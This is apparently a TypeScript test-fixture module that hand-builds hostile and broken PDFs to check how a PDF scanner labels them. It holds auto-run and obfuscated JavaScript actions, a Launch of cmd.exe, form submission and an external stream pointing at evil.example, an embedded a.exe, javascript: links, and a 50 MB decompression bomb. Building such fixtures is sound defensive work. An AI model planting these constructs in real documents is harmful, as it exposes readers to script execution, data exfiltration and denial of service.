import { deflateSync } from 'node:zlib';
import { PDFDocument } from '@cantoo/pdf-lib';
import { cut, file, type Hostile, PLANTED, scratched } from './hostile.ts';

/** A PDF of one page, written by hand: what the catalogue and the page say beside, and objects from number 10 on. */
function pdf({
  catalogue = '',
  page = '',
  objects = [],
  trailer = '',
  head = '',
  tail = '',
}: Partial<Record<'catalogue' | 'page' | 'trailer' | 'head' | 'tail', string>> & { readonly objects?: readonly string[] }): Buffer {
  const all = [
    [1, `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`],
    [2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'],
    [3, `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] ${page} >>`],
    ...objects.map((object, nth) => [10 + nth, object] as const),
  ] as const;
  const body = all.map(([number, object]) => `${number} 0 obj\n${object}\nendobj\n`).join('');
  return Buffer.from(
    `${head}%PDF-1.7\n${body}trailer\n<< /Root 1 0 R /Size ${all.length + 10} ${trailer} >>\nstartxref\n0\n%%EOF\n${tail}`,
    'latin1',
  );
}

const stream = (dictionary: string, bytes: Uint8Array | string): string =>
  `<< ${dictionary} /Length ${bytes.length} >>\nstream\n${Buffer.from(bytes).toString('latin1')}\nendstream`;

const action = (words: string): string => `<< /S ${words} >>`;
const annotation = (words: string): string => `/Annots [<< /Type /Annot /Rect [0 0 9 9] ${words} >>]`;

const ACTIONS = {
  script: action(`/JavaScript /JS (app.alert\\("${PLANTED}"\\))`),
  'script in letters by number': action(`/J#61vaScr#69pt /J#53 (${PLANTED})`),
  'a program': action('/Launch /F (cmd.exe)'),
  'a form that is sent': action('/SubmitForm /F (https://evil.example)'),
  'data that is fetched': action('/ImportData /F (x.fdf)'),
  'a film': action('/Rendition /OP 0'),
};

function active(): readonly Hostile[] {
  const places = {
    'when opened': (words: string) => ({ catalogue: `/Type /Catalog /X << /OpenAction ${words} /A ${words} >>` }),
    'at a click': (words: string) => ({ page: annotation(`/Subtype /Link /A ${words}`) }),
    'after another': (words: string) => ({
      page: annotation(`/Subtype /Link /A << /S /URI /URI (https://x.example) /Next [10 0 R] >>`),
      objects: [words],
    }),
  };
  return [
    ...Object.entries(ACTIONS).flatMap(([what, words]) =>
      Object.entries(places).map(([when, place]) => file(`PDF with ${what} ${when}`, pdf(place(words)), 'has-active-content')),
    ),
    file(
      'PDF with named script',
      pdf({ catalogue: `/Names << /JavaScript << /Names [(a) ${ACTIONS.script}] >> >>` }),
      'has-active-content',
    ),
    file(
      'PDF with a form of another kind',
      pdf({ catalogue: '/AcroForm << /Fields [] /XFA [(a) 10 0 R] >>', objects: [stream('', PLANTED)] }),
      'has-active-content',
    ),
    ...['RichMedia', 'Movie', 'Screen', '3D'].map((kind) =>
      file(`PDF with ${kind}`, pdf({ page: annotation(`/Subtype /${kind}`) }), 'has-active-content'),
    ),
    file(
      'PDF with a file inside',
      pdf({
        catalogue: '/Names << /EmbeddedFiles << /Names [(a) 10 0 R] >> >>',
        objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 11 0 R >> >>', stream('/Type /EmbeddedFile', PLANTED)],
      }),
      'has-embedded-files',
    ),
    file('PDF with a file at a pin', pdf({ page: annotation('/Subtype /FileAttachment /FS << /EF << >> >>') }), 'has-embedded-files'),
    file('PDF that is a folder', pdf({ catalogue: '/Collection << >>' }), 'has-embedded-files'),
    file(
      'PDF with a stream from elsewhere',
      pdf({ page: '/Contents 10 0 R', objects: [stream('/F (https://evil.example)', '')] }),
      'has-active-content',
    ),
    file(
      'PDF whose script lies where fonts do',
      pdf({ page: `/Resources << /Font << /F1 10 0 R >> >>`, objects: [`<< /Type /Font /A ${ACTIONS.script} >>`] }),
      'has-active-content',
    ),
    file(
      'PDF whose catalogue is a font table as well',
      pdf({ catalogue: `/AA << /O ${ACTIONS.script} >>`, page: '/Resources << /Font 1 0 R >>' }),
      'has-active-content',
      'clean',
    ),
  ];
}

const quiet = (): readonly Hostile[] => [
  file('PDF that opens something', pdf({ catalogue: `/OpenAction ${ACTIONS.script}` }), 'clean', 'has-active-content'),
  file('PDF with actions of its pages', pdf({ page: `/AA << /O ${ACTIONS.script} >>` }), 'clean', 'has-active-content'),
  file(
    'PDF with its author',
    pdf({
      trailer: '/Info 10 0 R',
      catalogue: '/Metadata 11 0 R',
      objects: [`<< /Author (${PLANTED}) >>`, stream('/Type /Metadata /Subtype /XML', `<x>${PLANTED}</x>`)],
    }),
    'clean',
  ),
  file('PDF with a commenter', pdf({ page: annotation(`/Subtype /Text /T (${PLANTED})`) }), 'clean'),
  file('PDF with what a program keeps', pdf({ page: `/PieceInfo << /X (${PLANTED}) >>` }), 'clean'),
  file('PDF with an object that nothing leads to', pdf({ objects: [ACTIONS.script, stream('', PLANTED)] }), 'clean'),
  file(
    'PDF with a link that is script',
    pdf({ page: annotation(`/Subtype /Link /A << /S /URI /URI (javascript:${PLANTED}) >>`) }),
    'clean',
  ),
  file(
    'PDF with a link to another file',
    pdf({ page: annotation(`/Subtype /Link /A << /S /GoToR /F (${PLANTED}.pdf) /D [0 /Fit] >>`) }),
    'clean',
  ),
  file('PDF that goes on as an archive', pdf({ tail: `PK\u0003\u0004${PLANTED}` }), 'clean', 'damaged'),
  file('PDF with an object that cannot be read', pdf({ objects: [`<< /S /JavaScript /JS (${PLANTED}`] }), 'clean', 'damaged'),
];

async function locked(): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage();
  document.encrypt({ userPassword: 'x', ownerPassword: 'y' });
  return Buffer.from(await document.save());
}

async function carrier(): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage();
  document.addJavaScript('x', `app.alert("${PLANTED}")`);
  await document.attach(Buffer.from(PLANTED), 'a.txt');
  return Buffer.from(await document.save());
}

const odd = (): readonly Hostile[] => [
  file('PDF in name alone', Buffer.from('%PDF-1.7\n'), 'damaged'),
  file('PDF without pages', Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>'), 'damaged'),
  file('PDF without a catalogue', Buffer.from('%PDF-1.7\ntrailer\n<< /Root 9 0 R >>'), 'damaged'),
  file('PDF whose pages are their own parents', pdf({ objects: [], catalogue: '/Pages 10 0 R' }), 'damaged', 'unreadable', 'clean'),
  file(
    'PDF nested a hundred thousand deep',
    pdf({ catalogue: `/X ${'['.repeat(100_000)}${']'.repeat(100_000)}` }),
    'damaged',
    'clean',
    'unreadable',
  ),
  file(
    'PDF whose objects unpack to 50 MB',
    pdf({
      catalogue: '/X 10 0 R',
      objects: [stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(Buffer.alloc(50 * 2 ** 20, '1 0 ')))],
    }),
    'damaged',
    'unreadable',
    'clean',
  ),
  file('PDF with 100 000 objects', pdf({ objects: Array.from({ length: 100_000 }, () => '<< >>') }), 'damaged', 'unreadable', 'clean'),
  file('PDF behind HTML', pdf({ head: '<html>' }), 'not-allowed-type'),
];

/** PDFs that mean harm, or are broken; made here, by nobody. */
export async function hostilePdfs(): Promise<readonly Hostile[]> {
  const plain = pdf({});
  const closed = await locked();
  return [
    ...active(),
    ...quiet(),
    ...odd(),
    file('a locked PDF', closed, 'encrypted'),
    file('a locked PDF, old', pdf({ trailer: '/Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -1 >>' }), 'encrypted'),
    file('PDF with script and a file, by a program', await carrier(), 'has-active-content', 'has-embedded-files'),
    ...cut(plain, 4).map((some) => file(`PDF cut off at ${some.length} of ${plain.length}`, some, 'damaged', 'clean')),
    ...[1, 2, 3].map((seed) => file(`PDF scratched (${seed})`, scratched(plain, seed, 4), 'damaged', 'clean')),
  ];
}
